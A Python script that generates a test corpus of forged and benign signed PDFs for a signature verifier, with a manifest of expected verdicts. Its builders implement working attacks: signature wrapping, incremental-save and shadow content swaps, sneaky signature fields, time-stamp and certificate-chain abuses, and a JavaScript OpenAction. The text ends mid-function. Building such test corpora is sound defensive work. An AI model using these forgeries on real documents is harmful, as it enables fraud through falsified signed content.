#!/usr/bin/env python3
"""Build an attack corpus (and benign controls) for a PDF signature verifier.

usage: target/interop-venv/bin/python scripts/attacks/make_corpus.py OUTDIR [--only SUBSTR]

Everything is made from scratch and offline: a throwaway PKI (cryptography), hand-written
base PDFs, pyHanko's Python API for the signatures, raw byte surgery for the attacks.
Writes OUTDIR/root.pem (the trust anchor), OUTDIR/untrusted-root.pem, the PDFs and
OUTDIR/MANIFEST.tsv with columns
    file  expect  class  must_name  description  revocation
See scripts/attacks/README.md for the literature behind each case.
"""
from __future__ import annotations

import argparse
import datetime as dt
import hashlib
import os
import re
import sys
import traceback
import zlib

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import _common as C  # noqa: E402
from _common import (ACROFORM, CATALOG, CONTENT1, CONTENT2, FIELD, FONT, HELV, INFO,  # noqa: E402
                     PAGE1, PAGES, append_update, find_obj, stream_obj, text_content)

ROWS: list[tuple] = []
OUT = "."
ONLY = None
FAILED: list[str] = []


def add(fname, data, expect, cls, must, desc, rev="optional"):
    with open(os.path.join(OUT, fname), "wb") as f:
        f.write(data)
    ROWS.append((fname, expect, cls, must, desc, rev))
    print("  %-48s %6d B  %s" % (fname, len(data), expect), flush=True)


def case(fn):
    """Run a case builder; a failing builder is reported but does not stop the corpus."""
    if ONLY and ONLY not in fn.__name__:
        return
    try:
        fn()
    except Exception:
        FAILED.append(fn.__name__)
        print("!! case %s failed:\n%s" % (fn.__name__, traceback.format_exc()), file=sys.stderr)


NOW = dt.datetime.now(dt.timezone.utc)
MANIP = text_content("MANIPULATED", "Pay 1,000,000 EUR to Mallory.", "Page 1 of 2")


def main():
    global OUT, ONLY
    ap = argparse.ArgumentParser()
    ap.add_argument("outdir")
    ap.add_argument("--only", help="only build cases whose builder name contains this")
    a = ap.parse_args()
    OUT, ONLY = a.outdir, a.only
    os.makedirs(OUT, exist_ok=True)
    print("making the throwaway PKI ...", flush=True)
    pki = C.Pki()
    with open(os.path.join(OUT, "root.pem"), "wb") as f:
        f.write(pki.root.pem())
    with open(os.path.join(OUT, "untrusted-root.pem"), "wb") as f:
        f.write(pki.untrusted_root.pem())
    build(pki)
    mpath = os.path.join(OUT, "MANIFEST.tsv")
    mode = "a" if ONLY and os.path.exists(mpath) else "w"
    old = {}
    if mode == "a":  # --only: replace the rows we rebuilt, keep the others
        with open(mpath) as f:
            for ln in f:
                if ln.startswith(("#", "file\t")):
                    continue
                old[ln.split("\t")[0]] = ln
    for r in ROWS:
        old[r[0]] = "\t".join(r) + "\n"
    with open(mpath, "w") as f:
        f.write("#file\texpect\tclass\tmust_name\tdescription\trevocation\n")
        for k in sorted(old):
            f.write(old[k])
    print("\n%d files, manifest %s" % (len(ROWS), mpath))
    if FAILED:
        print("FAILED builders: %s" % ", ".join(FAILED), file=sys.stderr)
        sys.exit(1)


# ----------------------------------------------------------------------------- helpers

def rsub(pat: bytes, repl: bytes, body: bytes) -> bytes:
    """re.sub that must hit exactly once; spaces in `pat` match any whitespace run."""
    rx = re.escape(pat).replace(b"\\ ", b"\\s*")
    out, k = re.subn(rx, lambda m: repl, body)
    assert k == 1, (pat, body[:300])
    return out


def sign(data, who, **kw):
    return C.pyh_sign(data, who, chain=kw.pop("chain", ()), **kw)


def sig_num(data, which=-1):
    return C.sig_objects(data)[which][0]


def fill_field(data, value, field="Name", da=None):
    """Form filling with pyHanko's writer: new /V and a fresh /AP /N (and optionally /DA)."""
    from pyhanko.pdf_utils import generic
    w = C.pyh_writer(data)
    form = w.root["/AcroForm"]
    for ref in form["/Fields"]:
        f = ref.get_object()
        if f.get("/T") == field:
            break
    else:
        raise KeyError(field)
    helv = form["/DR"]["/Font"].raw_get("/Helv")
    color = b"0 g"
    if da is not None:
        f["/DA"] = generic.TextStringObject(da)
        color = da.split("Tf", 1)[1].strip().encode()
    ap = generic.StreamObject({
        generic.pdf_name("/Type"): generic.pdf_name("/XObject"),
        generic.pdf_name("/Subtype"): generic.pdf_name("/Form"),
        generic.pdf_name("/BBox"): generic.ArrayObject([generic.NumberObject(x) for x in (0, 0, 300, 30)]),
        generic.pdf_name("/Resources"): generic.DictionaryObject({
            generic.pdf_name("/Font"): generic.DictionaryObject({generic.pdf_name("/Helv"): helv})}),
    }, stream_data=b"/Tx BMC q BT /Helv 12 Tf %s 2 10 Td (%s) Tj ET Q EMC" % (color, value.encode()))
    f["/V"] = generic.TextStringObject(value)
    f["/AP"] = generic.DictionaryObject({generic.pdf_name("/N"): w.add_object(ap)})
    w.update_container(f)
    return C.pyh_write(w)


def add_annot(data, subtype="/FreeText", text="MANIPULATED: pay 1,000,000 EUR to Mallory",
              rect=(60, 560, 560, 620), cover=True):
    """Append a markup annotation with an opaque appearance on page 1 (pyHanko writer)."""
    from pyhanko.pdf_utils import generic
    n = generic.pdf_name
    w = C.pyh_writer(data)
    page = w.root["/Pages"]["/Kids"][0].get_object()
    x0, y0, x1, y1 = rect
    ap_data = (b"q 1 1 1 rg 0 0 %d %d re f Q " % (x1 - x0, y1 - y0) if cover else b"") + \
        b"BT /F1 18 Tf 1 0 0 rg 6 20 Td (%s) Tj ET" % text.encode()
    font_ref = w.root["/Pages"]["/Kids"][0].get_object()["/Resources"]["/Font"].raw_get("/F1")
    ap = generic.StreamObject({
        n("/Type"): n("/XObject"), n("/Subtype"): n("/Form"),
        n("/BBox"): generic.ArrayObject([generic.NumberObject(v) for v in (0, 0, x1 - x0, y1 - y0)]),
        n("/Resources"): generic.DictionaryObject({n("/Font"): generic.DictionaryObject({n("/F1"): font_ref})}),
    }, stream_data=ap_data)
    annot = generic.DictionaryObject({
        n("/Type"): n("/Annot"), n("/Subtype"): n(subtype),
        n("/Rect"): generic.ArrayObject([generic.NumberObject(v) for v in rect]),
        n("/Contents"): generic.TextStringObject(text), n("/F"): generic.NumberObject(4),
        n("/P"): w.root["/Pages"]["/Kids"].raw_get(0),
        n("/AP"): generic.DictionaryObject({n("/N"): w.add_object(ap)}),
    })
    if subtype == "/FreeText":
        annot[n("/DA")] = generic.TextStringObject("/Helv 18 Tf 1 0 0 rg")
    if subtype == "/Stamp":
        annot[n("/Name")] = n("/Approved")
    ref = w.add_object(annot)
    raw = page.raw_get("/Annots") if "/Annots" in page else None
    if raw is None:
        page[n("/Annots")] = generic.ArrayObject([ref])
        w.update_container(page)
    elif isinstance(raw, generic.IndirectObject):
        raw.get_object().append(ref)
        w.mark_update(raw)
    else:
        raw.append(ref)
        w.update_container(page)
    return C.pyh_write(w)


def add_dss(data, certs=(), crls=(), ocsps=()):
    from pyhanko.sign.validation.dss import DocumentSecurityStore
    w = C.pyh_writer(data)
    DocumentSecurityStore.supply_dss_in_writer(w, None, certs=[c.a_cert for c in certs],
                                               crls=list(crls), ocsps=list(ocsps))
    return C.pyh_write(w)


def doc_timestamp(data, tsa_stamper, field_name=None):
    from pyhanko.sign import signers
    w = C.pyh_writer(data)
    out = signers.PdfTimeStamper(tsa_stamper, field_name=field_name).timestamp_pdf(w, "sha256")
    return out.getvalue()


def catalog_with(data, extra: bytes):
    body = find_obj(data, CATALOG)
    assert body.rstrip().endswith(b">>")
    return body.rstrip()[:-2] + b" " + extra + b" >>"


def full_xref_update(data: bytes, objs: dict) -> bytes:
    """Append objects plus a COMPLETE xref table with no /Prev (the revision history is cut)."""
    root, info, size, idb, _ = C.last_trailer(data)
    out = bytearray(data)
    for n, body in sorted(objs.items()):
        out += b"%d 0 obj\n" % n + body + b"\nendobj\n"
    offs = {}
    for m in re.finditer(rb"(?m)^(\d+) 0 obj\b", bytes(out)):
        offs[int(m.group(1))] = m.start()
    size = max(size, max(offs) + 1)
    x = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for n in range(1, size):
        out += (b"%010d 00000 n \n" % offs[n]) if n in offs else b"0000000000 65535 f \n"
    out += b"trailer\n<< /Size %d /Root %d 0 R /Info %d 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (
        size, root, info, idb, x)
    return bytes(out)


def wrong_imprint_tsa(tsa, chain, fixed_dt=None):
    from asn1crypto import tsp
    from pyhanko.sign.timestamps.dummy_client import DummyTimeStamper

    class WrongImprint(DummyTimeStamper):
        def _build_tst_info(self, message_imprint, dtm, req):
            bad = tsp.MessageImprint({
                "hash_algorithm": message_imprint["hash_algorithm"],
                "hashed_message": hashlib.new(message_imprint["hash_algorithm"]["algorithm"].native,
                                              b"this is not the signature value").digest()})
            return super()._build_tst_info(bad, dtm, req)

    return C.dummy_tsa(tsa, chain, fixed_dt=fixed_dt, cls=WrongImprint)


# ----------------------------------------------------------------------------- the corpus

def build(pki):
    root = pki.root
    base = C.base_pdf()
    signed = sign(base, pki.signer)                          # approval, PAdES, ECDSA P-256
    cert_p1 = sign(base, pki.signer, certify=True, p=1)
    cert_p2 = sign(base, pki.signer, certify=True, p=2)
    cert_p3 = sign(base, pki.signer, certify=True, p=3)
    ts = lambda **k: C.dummy_tsa(pki.tsa, (root,), **k)  # noqa: E731
    SN = sig_num(signed)

    # ================================================================ benign controls
    @case
    def benign_basic():
        add("benign-ecdsa-pades.pdf", signed, "TOTAL-PASSED", "benign", "-",
            "one approval signature, ECDSA P-256, /ETSI.CAdES.detached (PAdES B-B)")
        add("benign-rsa-pkcs7.pdf", sign(base, pki.rsa_signer, subfilter="pkcs7"), "TOTAL-PASSED",
            "benign", "-", "one approval signature, RSA-2048, /adbe.pkcs7.detached")
        two = sign(signed, pki.signer2, field="Signature2")
        assert b"/ModDate" in two[len(signed):], "second update should touch /Info"
        add("benign-two-signatures.pdf", two, "TOTAL-PASSED", "benign", "-",
            "two sequential approval signatures by pyHanko (second update touches /Info)")
        add("benign-certified-p2.pdf", cert_p2, "TOTAL-PASSED", "benign", "-",
            "certification signature DocMDP P=2, nothing after it")

    @case
    def benign_fill_then_approve():
        filled = fill_field(cert_p2, "Alice Example")
        add("benign-certified-p2-filled-approved.pdf", sign(filled, pki.signer2, field="Approval"),
            "TOTAL-PASSED", "benign", "-",
            "certified DocMDP P=2, text field filled (/V + /AP), then a second approval signature")
        add("benign-certified-p2-filled.pdf", filled, "TOTAL-PASSED", "benign", "-",
            "certified DocMDP P=2, then only form filling (/V + /AP) of the text field")

    @case
    def benign_p3_annotation():
        add("benign-certified-p3-annotation.pdf", add_annot(cert_p3, cover=False,
                                                            text="Reviewer note: looks fine"),
            "TOTAL-PASSED", "benign", "-",
            "certified DocMDP P=3, then a FreeText annotation (allowed by P=3)")

    @case
    def benign_dss_ts():
        crl = pki.crl()
        add("benign-dss-added-later.pdf", add_dss(signed, certs=(root, pki.signer), crls=(crl,)),
            "TOTAL-PASSED", "benign", "-",
            "signed, then an incremental update adding /DSS (certs + fresh empty CRL)")
        add("benign-doc-timestamp-later.pdf", doc_timestamp(signed, ts()), "TOTAL-PASSED", "benign",
            "-", "signed, then a document time-stamp (/ETSI.RFC3161) by a proper TSA")
        frac = (NOW - dt.timedelta(seconds=7)).replace(microsecond=123456)
        d = doc_timestamp(signed, ts(fixed_dt=frac))
        assert b".123456Z".hex().encode() in d.lower(), "genTime should carry .123456"
        add("benign-doc-timestamp-fractional.pdf", d, "TOTAL-PASSED", "benign", "-",
            "signed, then a document time-stamp whose TSTInfo genTime has fractional seconds (.123456Z)")
        add("benign-cades-bt.pdf", sign(base, pki.signer, timestamper=ts()), "TOTAL-PASSED",
            "benign", "-", "PAdES B-T: CAdES signature with a signature time-stamp (unsigned attribute)")
        add("benign-empty-update.pdf", append_update(signed, {}), "TOTAL-PASSED", "benign", "-",
            "signed, then an empty incremental update (only xref '0 1' + trailer with /Prev)")
        info = rsub(b"Example corpus base document", b"retitled after signing", find_obj(signed, INFO))
        add("benign-info-update.pdf", append_update(signed, {INFO: info}), "TOTAL-PASSED", "benign",
            "-", "signed, then an incremental update changing only the /Info dictionary")

    @case
    def benign_expired_with_ts():
        when = C.utc(2025, 1, 15, 12)
        with C.frozen_signing_time(when - dt.timedelta(minutes=1)):
            d = sign(base, pki.expired, timestamper=C.dummy_tsa(pki.tsa, (root,), fixed_dt=when))
        add("benign-expired-signer-valid-ts.pdf", d, "TOTAL-PASSED", "benign", "-",
            "signer cert expired 2025-06-01, but a valid signature time-stamp (2025-01-15) proves "
            "the signature existed while it was valid")

    @case
    def benign_revocation():
        crl = pki.crl()
        add("benign-rev-crl-good.pdf", add_dss(signed, certs=(root, pki.signer), crls=(crl,)),
            "TOTAL-PASSED", "benign", "-",
            "DSS carries a fresh CRL from the root that does not list the signer", "required")
        o = pki.ocsp_response(pki.signer)
        add("benign-rev-ocsp-good.pdf", add_dss(signed, certs=(root, pki.signer, pki.ocsp), ocsps=(o,)),
            "TOTAL-PASSED", "benign", "-",
            "DSS carries a fresh OCSP 'good' by a delegated responder (id-kp-OCSPSigning, ocsp-nocheck)",
            "required")
        from pyhanko_certvalidator import ValidationContext
        vc = ValidationContext(trust_roots=[root.a_cert], crls=[crl], allow_fetching=False,
                               revocation_mode="hard-fail")
        lt = sign(base, pki.signer, timestamper=ts(),
                  meta_extra=dict(embed_validation_info=True, validation_context=vc))
        lta = sign(base, pki.signer, timestamper=ts(),
                   meta_extra=dict(embed_validation_info=True, validation_context=vc, use_pades_lta=True))
        add("benign-pades-blta.pdf", lta, "TOTAL-PASSED", "benign", "-",
            "PAdES B-LTA made by pyHanko: signature time-stamp, DSS with the root's CRL, document "
            "time-stamp", "required")
        add("benign-pades-blt.pdf", lt, "TOTAL-PASSED", "benign", "-",
            "PAdES B-LT made by pyHanko: signature time-stamp + DSS with the root's CRL", "required")

    @case
    def benign_shadow_base():
        add("benign-shadow-base-signed.pdf", sign(shadow_base(), pki.signer), "TOTAL-PASSED",
            "benign", "-", "the shadow-attack base document, signed, nothing after: hidden content "
            "is not detectable here (control for the shadow-* rows)")

    # ================================================================ USF
    @case
    def usf():
        body = find_obj(signed, SN)
        a0, a1, b0, b1 = C.byte_range(signed)
        variants = [
            ("usf-contents-missing", re.sub(rb"/Contents\s*<[0-9a-fA-F]*>", b"", body), "contents",
             "signature dictionary redefined without /Contents"),
            ("usf-contents-empty", re.sub(rb"/Contents\s*<[0-9a-fA-F]*>", b"/Contents <>", body), "contents",
             "signature dictionary redefined with /Contents <>"),
            ("usf-contents-null", re.sub(rb"/Contents\s*<[0-9a-fA-F]*>", b"/Contents null", body), "contents",
             "signature dictionary redefined with /Contents null"),
            ("usf-byterange-missing", re.sub(rb"/ByteRange\s*\[[^\]]*\]", b"", body), "byterange",
             "signature dictionary redefined without /ByteRange"),
            ("usf-byterange-zero", re.sub(rb"/ByteRange\s*\[[^\]]*\]", b"/ByteRange [0 0 0 0]", body),
             "byterange", "signature dictionary redefined with /ByteRange [0 0 0 0]"),
            ("usf-byterange-null", re.sub(rb"/ByteRange\s*\[[^\]]*\]", b"/ByteRange null", body),
             "byterange", "signature dictionary redefined with /ByteRange null"),
            ("usf-byterange-two-holes", re.sub(rb"/ByteRange\s*\[[^\]]*\]", b"/ByteRange [0 %d %d %d %d %d]" % (
                a1, b0, 20, b0 + 40, b1 - 40), body), "byterange",
             "signature dictionary redefined with a 6-number /ByteRange (a second hole)"),
            ("usf-byterange-not-at-0", re.sub(rb"/ByteRange\s*\[[^\]]*\]", b"/ByteRange [%d %d %d %d]" % (
                16, a1 - 16, b0, b1), body), "byterange",
             "signature dictionary redefined with a /ByteRange starting at 16"),
            ("usf-contents-literal", re.sub(rb"/Contents\s*<([0-9a-fA-F]*)>", lambda m: b"/Contents (" + re.sub(
                rb"([()\\])", rb"\\\1", bytes.fromhex(m.group(1).decode()).rstrip(b"\0")) + b")", body), "contents",
             "signature dictionary redefined with /Contents as a literal (non-hex) string outside the hole"),
        ]
        for name, newbody, must, desc in variants:
            assert newbody != body, name
            d = append_update(signed, {SN: newbody, CONTENT1: stream_obj(MANIP)})
            add(name + ".pdf", d, "NOT-PASSED", "usf", must,
                "USF: page content replaced by 'MANIPULATED' and " + desc)
        # /Contents string in the signed hole no longer hex-only (in place, no update)
        hole = signed[a1:b0]
        k = hole.rstrip(b">").rstrip(b"0")
        pad = len(hole) - 1 - len(k)
        assert pad > 40
        start = a1 + len(k) + 8
        inplace = signed[:start] + b"zz) /Foo (" + signed[start + 10:]
        assert len(inplace) == len(signed)
        add("usf-contents-not-hex.pdf", inplace, "NOT-PASSED", "usf", "contents",
            "USF: inside the /ByteRange hole the /Contents padding is replaced by non-hex bytes "
            "('zz) /Foo ('): the hole is no longer exactly one hex string")

    # ================================================================ ISA
    @case
    def isa():
        ncat, npages, npage, ncont = 50, 51, 52, 53
        cat = rsub(b"/Pages %d 0 R" % PAGES, b"/Pages %d 0 R" % npages, find_obj(signed, CATALOG))
        page = rsub(b"/Contents %d 0 R" % CONTENT1, b"/Contents %d 0 R" % ncont, find_obj(signed, PAGE1))
        page = rsub(b"/Parent %d 0 R" % PAGES, b"/Parent %d 0 R" % npages, page)
        d = append_update(signed, {ncat: cat, npages: b"<< /Type /Pages /Kids [%d 0 R %d 0 R] /Count 2 >>" % (
            npage, C.PAGE2), npage: page, ncont: stream_obj(MANIP)}, root=ncat)
        add("isa-new-root.pdf", d, "NOT-PASSED", "isa", "catalog",
            "ISA: a new catalog and page tree are appended and the trailer /Root points to them")
        add("isa-content-replaced.pdf", append_update(signed, {CONTENT1: stream_obj(MANIP)}),
            "NOT-PASSED", "isa", "content", "ISA: the page 1 content stream object is redefined ('MANIPULATED')")
        page2 = rsub(b"/Contents %d 0 R" % CONTENT1, b"/Contents %d 0 R" % ncont, find_obj(signed, PAGE1))
        add("isa-page-contents-ref.pdf", append_update(signed, {PAGE1: page2, ncont: stream_obj(MANIP)}),
            "NOT-PASSED", "isa", "page", "ISA: a new content stream is added and page 1 /Contents repointed to it")
        tail = b"\n%d 0 obj\n%s\nendobj\n" % (CONTENT1, stream_obj(MANIP))
        add("isa-appended-no-xref.pdf", signed + tail, "NOT-PASSED", "isa", "appended",
            "ISA: bytes appended after the last %%EOF redefine object 6 (page content) with no xref/"
            "trailer; repairing readers show MANIPULATED; the signature does not cover the file")
        add("isa-full-xref-no-prev.pdf", full_xref_update(signed, {CONTENT1: stream_obj(MANIP)}),
            "NOT-PASSED", "isa", "content",
            "ISA: new revision with a complete xref table and no /Prev, redefining the page content")
        cat2 = catalog_with(signed, b"/OpenAction << /S /JavaScript /JS (app.alert\\('MANIPULATED'\\)) >>")
        add("isa-catalog-openaction.pdf", append_update(signed, {CATALOG: cat2}), "NOT-PASSED", "isa",
            "openaction", "ISA: catalog redefined with a JavaScript /OpenAction (catalog keys may not change)")
        add("isa-type-change.pdf", append_update(signed, {HELV: stream_obj(b"not a font any more")}),
            "NOT-PASSED", "isa", "type",
            "ISA: the AcroForm /DR font object (a dictionary) is redefined as a stream (type change)")
        add("isa-object-freed.pdf", append_update(signed, {FIELD: None}), "NOT-PASSED", "isa", "remov",
            "ISA: the update marks the text field/widget object free in the xref (object removed)")
        # xref repointing: object 6 mapped onto the bytes of another, already signed object
        sb = sign(shadow_base(), pki.signer)
        m = re.search(rb"(?m)^%d 0 obj" % SH_ALT, sb)
        d = append_update(sb, {}, raw_xref_entries={CONTENT1: m.start()})
        add("isa-xref-repoint.pdf", d, "NOT-PASSED", "isa", "xref",
            "ISA: the new xref maps object 6 (page content) to the offset of signed object %d "
            "('MANIPULATED' stream, header '%d 0 obj'); no object bytes appended" % (SH_ALT, SH_ALT))

    # ================================================================ SWA
    @case
    def swa():
        d = swa_wrap(signed, SN)
        add("swa-moved-contents.pdf", d, "NOT-PASSED", "swa", "byterange",
            "SWA: signed part 2 moved to the end; a new signature dictionary with /ByteRange [0 a b' c] "
            "(same signed bytes) sits in the enlarged hole next to a new xref (at the old startxref "
            "offset) and a MANIPULATED page content; the hole is no longer the /Contents string")

    # ================================================================ shadow attacks
    @case
    def shadow():
        sb = sign(shadow_base(), pki.signer)
        page = find_obj(sb, PAGE1)
        add("shadow-hide-page-contents.pdf",
            append_update(sb, {PAGE1: rsub(b"[ 6 0 R 12 0 R 15 0 R ]", b"[6 0 R 15 0 R]", page)}),
            "NOT-PASSED", "shadow-hide", "page",
            "Shadow Hide: page 1 /Contents array loses the white cover stream that hid a signed "
            "'Pay 1,000,000 EUR' line")
        add("shadow-hide-xobject.pdf",
            append_update(sb, {SH_COVER_XO: stream_obj(b"", b"/Type /XObject /Subtype /Form /BBox [0 0 612 792] ")}),
            "NOT-PASSED", "shadow-hide", "xobject",
            "Shadow Hide: the opaque form XObject /Fm0 covering signed hidden text is redefined empty")
        add("shadow-replace-font.pdf", append_update(sb, {FONT: (
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding << /Type /Encoding "
            b"/BaseEncoding /WinAnsiEncoding /Differences [49 /nine] >> >>")}),
            "NOT-PASSED", "shadow-replace", "font",
            "Shadow Replace: font object redefined with /Differences [49 /nine] so '100 EUR' renders '900 EUR'")
        fld = rsub(b"/DA (/Helv 12 Tf 0 g)", b"/DA (/Helv 12 Tf 1 1 1 rg)", find_obj(sb, FIELD))
        add("shadow-replace-field-da.pdf", append_update(sb, {FIELD: fld}), "NOT-PASSED", "shadow-replace",
            "/da", "Shadow Replace: the text field's /DA (not a form-filling key) changed to white text")
        add("shadow-hide-replace-contents-ref.pdf",
            append_update(sb, {PAGE1: rsub(b"[ 6 0 R 12 0 R 15 0 R ]", b"%d 0 R" % SH_ALT, page)}),
            "NOT-PASSED", "shadow-hide-replace", "page",
            "Shadow Hide-and-Replace: page 1 /Contents repointed to a signed but unused stream")
        cat = rsub(b"/Pages %d 0 R" % PAGES, b"/Pages %d 0 R" % SH_PAGES, find_obj(sb, CATALOG))
        add("shadow-hide-replace-pages-ref.pdf", append_update(sb, {CATALOG: cat}),
            "NOT-PASSED", "shadow-hide-replace", "catalog",
            "Shadow Hide-and-Replace: catalog /Pages repointed to a signed hidden page tree")
        add("shadow-hide-replace-root.pdf", append_update(sb, {}, root=SH_CATALOG),
            "NOT-PASSED", "shadow-hide-replace", "catalog",
            "Shadow Hide-and-Replace: only the trailer /Root changes, to a hidden catalog in the signed revision")
        # form-field overlay (allowed by P=2 but not by P=1)
        p1 = sign(shadow_base(field_cover=True), pki.signer, certify=True, p=1)
        add("shadow-hide-form-p1.pdf", fill_field(p1, ""), "NOT-PASSED", "shadow-hide", "docmdp",
            "Shadow Hide via form: certified P=1; the field's opaque appearance hid signed text; "
            "'filling' it with an empty appearance reveals it")

    # ================================================================ certification: EAA / SSA / MDP
    @case
    def eaa():
        add("eaa-freetext-p2.pdf", add_annot(cert_p2, "/FreeText"), "NOT-PASSED", "eaa", "annotation",
            "EAA: FreeText annotation with opaque appearance added after certification P=2")
        add("eaa-stamp-p2.pdf", add_annot(cert_p2, "/Stamp"), "NOT-PASSED", "eaa", "annotation",
            "EAA: Stamp annotation with opaque appearance added after certification P=2")
        add("eaa-freetext-p1.pdf", add_annot(cert_p1, "/FreeText"), "NOT-PASSED", "eaa", "annotation",
            "EAA: FreeText annotation added after certification P=1")
        add("eaa-freetext-approval.pdf", add_annot(signed, "/FreeText"), "NOT-PASSED", "eaa", "annotation",
            "FreeText annotation added after a plain approval signature (no certification)")

    @case
    def ssa():
        add("ssa-unsigned-field-p2.pdf", add_sneaky_field(cert_p2), "NOT-PASSED", "ssa", "unsigned",
            "SSA: new (never signed) signature field whose widget appearance paints "
            "'MANIPULATED' over the content, after certification P=2")
        from pyhanko.sign.fields import SigFieldSpec
        d = sign(cert_p2, pki.untrusted_signer, chain=(pki.untrusted_root,), field="Sneaky",
                 field_spec=SigFieldSpec("Sneaky", box=(60, 560, 560, 620), on_page=0))
        add("ssa-signed-untrusted-p2.pdf", d, "NOT-PASSED", "ssa", "trusted",
            "SSA: visible signature field covering content, signed by a certificate from an "
            "untrusted root, after certification P=2")
        # Anyone can get a document time-stamp from a trusted TSA: one put into a visible field
        # whose appearance paints over a plainly approved (not certified) document.
        add("ssa-visible-doc-timestamp.pdf",
            doc_timestamp(add_sneaky_field(signed), ts(), field_name="Sneaky"),
            "NOT-PASSED", "ssa", "time-stamp field",
            "SSA variant: a visible signature field painting 'MANIPULATED' over an approved "
            "document, then filled with a valid document time-stamp from a trusted TSA")

    @case
    def mdp():
        add("docmdp-p1-filled.pdf", fill_field(cert_p1, "Mallory"), "NOT-PASSED", "docmdp", "docmdp",
            "certified DocMDP P=1, then a form field filled")
        from pyhanko.sign.signers.pdf_signer import PdfSigner
        real = PdfSigner._enforce_certification_constraints
        PdfSigner._enforce_certification_constraints = lambda self, r: None  # pyHanko refuses otherwise
        try:
            second = sign(cert_p1, pki.signer2, field="Approval")
        finally:
            PdfSigner._enforce_certification_constraints = real
        add("docmdp-p1-second-signature.pdf", second,
            "NOT-PASSED", "docmdp", "docmdp", "certified DocMDP P=1, then a second (approval) signature")
        from pyhanko.sign.fields import FieldMDPAction, FieldMDPSpec, SigFieldSpec
        locked = sign(two_field_base(), pki.signer, field="Locker", field_spec=SigFieldSpec(
            "Locker", field_mdp_spec=FieldMDPSpec(FieldMDPAction.INCLUDE, fields=["Name"])))
        add("fieldmdp-locked-field-filled.pdf", fill_field(locked, "Mallory"), "NOT-PASSED", "docmdp",
            "fieldmdp", "approval signature whose FieldMDP /Lock (Include [Name]) covers 'Name'; "
            "'Name' filled afterwards")
        add("benign-fieldmdp-other-field-filled.pdf", fill_field(locked, "Alice", field="Other"),
            "TOTAL-PASSED", "benign", "-",
            "approval signature whose FieldMDP /Lock covers only 'Name'; the unlocked field 'Other' "
            "filled afterwards")

    # ================================================================ time-stamps
    @case
    def timestamps():
        add("timestamp-only.pdf", doc_timestamp(base, ts()), "INDETERMINATE", "timestamp",
            "no_signature_found", "the only signature is a document time-stamp (/ETSI.RFC3161)")
        when = C.utc(2025, 1, 15, 12)
        with C.frozen_signing_time(when - dt.timedelta(minutes=1)):
            d = sign(base, pki.expired, timestamper=wrong_imprint_tsa(pki.tsa, (root,), fixed_dt=when))
            add("ts-imprint-mismatch-expired-signer.pdf", d, "NOT-PASSED", "timestamp", "imprint",
                "signature time-stamp (genTime 2025-01-15, TSA OK) whose messageImprint is not the hash "
                "of the signature value; signer cert expired 2025-06-01 so nothing else rescues it")
            d = sign(base, pki.expired)
            add("cert-expired-signer.pdf", d, "NOT-PASSED", "cert", "out_of_bounds",
                "signer certificate expired 2025-06-01, no time-stamp (claimed signing time 2025-01-15)")
            d = sign(base, pki.expired, timestamper=C.dummy_tsa(pki.untrusted_tsa, (pki.untrusted_root,),
                                                                fixed_dt=when))
            add("ts-untrusted-tsa-expired-signer.pdf", d, "NOT-PASSED", "timestamp", "time-stamp",
                "expired signer + signature time-stamp from a TSA chaining to an untrusted root")
            d = sign(base, pki.expired, timestamper=C.dummy_tsa(pki.tsa_noeku, (root,), fixed_dt=when))
            add("ts-noeku-expired-signer.pdf", d, "NOT-PASSED", "timestamp", "time-stamp",
                "expired signer + signature time-stamp by a TSA cert without id-kp-timeStamping")
        add("ts-noeku.pdf", sign(base, pki.signer, timestamper=C.dummy_tsa(pki.tsa_noeku, (root,))),
            "NOT-PASSED", "timestamp", "time-stamp",
            "signature time-stamp by a TSA certificate without the id-kp-timeStamping EKU")
        add("ts-eku-not-critical.pdf", sign(base, pki.signer, timestamper=C.dummy_tsa(pki.tsa_noncrit, (root,))),
            "NOT-PASSED", "timestamp", "time-stamp",
            "signature time-stamp by a TSA cert whose timeStamping EKU is NOT critical (RFC 3161 2.3)")
        add("ts-doc-noeku.pdf", doc_timestamp(signed, C.dummy_tsa(pki.tsa_noeku, (root,))), "NOT-PASSED",
            "timestamp", "time-stamp", "valid signature, then a document time-stamp by a TSA cert without EKU")
        add("ts-doc-imprint-mismatch.pdf", doc_timestamp(signed, wrong_imprint_tsa(pki.tsa, (root,))),
            "NOT-PASSED", "timestamp", "imprint",
            "valid signature, then a document time-stamp whose imprint is not the ByteRange digest")

    # ================================================================ certificates
    @case
    def certs():
        rows = [
            ("cert-keycertsign-only.pdf", pki.kcs_only, (), "digitalsignature",
             "signer cert keyUsage = keyCertSign only"),
            ("cert-signer-eku-timestamping.pdf", pki.eku_ts_signer, (), "timestamping",
             "signer cert carries the (critical) id-kp-timeStamping EKU"),
            ("cert-issued-by-end-entity.pdf", pki.under_ee, (pki.ee_issuer,), "basic",
             "signer cert issued by an end-entity cert (basicConstraints CA=false, keyUsage "
             "digitalSignature+keyCertSign) under the root"),
            ("cert-issued-by-cert-without-bc.pdf", pki.under_nobc, (pki.nobc_issuer,), "basic",
             "signer cert issued by a v3 cert WITHOUT basicConstraints (keyUsage keyCertSign) under the root"),
            ("cert-pathlen-violated.pdf", pki.deep_signer, (pki.inter_sub, pki.inter0), "path",
             "chain root -> intermediate(pathLen=0) -> sub-CA -> signer: pathLen violated"),
            ("cert-ca-without-keycertsign.pdf", pki.under_nokcs, (pki.inter_nokcs,), "keycertsign",
             "intermediate CA (CA=true) whose keyUsage lacks keyCertSign"),
            ("cert-unknown-critical-ext.pdf", pki.unknown_crit, (), "critical",
             "signer cert has an unknown CRITICAL extension (1.3.6.1.4.1.55555.1.2)"),
            ("cert-issuer-name-mismatch.pdf", pki.bad_name, (), "no_certificate_chain_found",
             "signer cert signed by the root key but its issuer name differs from the root's subject"),
            ("cert-not-yet-valid.pdf", pki.future, (), "yet",
             "signer cert notBefore 2031-01-01"),
        ]
        for fname, who, chain, must, desc in rows:
            add(fname, sign(base, who, chain=chain), "NOT-PASSED", "cert", must, desc)
        add("cert-untrusted-root.pdf", sign(base, pki.untrusted_signer, chain=(pki.untrusted_root,)),
            "INDETERMINATE", "cert", "trusted",
            "well-formed signature whose chain ends at a root that is not the trust anchor")

    # ================================================================ revocation
    @case
    def revocation():
        rsig = sign(base, pki.revoked)
        crl_rev = pki.crl([pki.revoked])
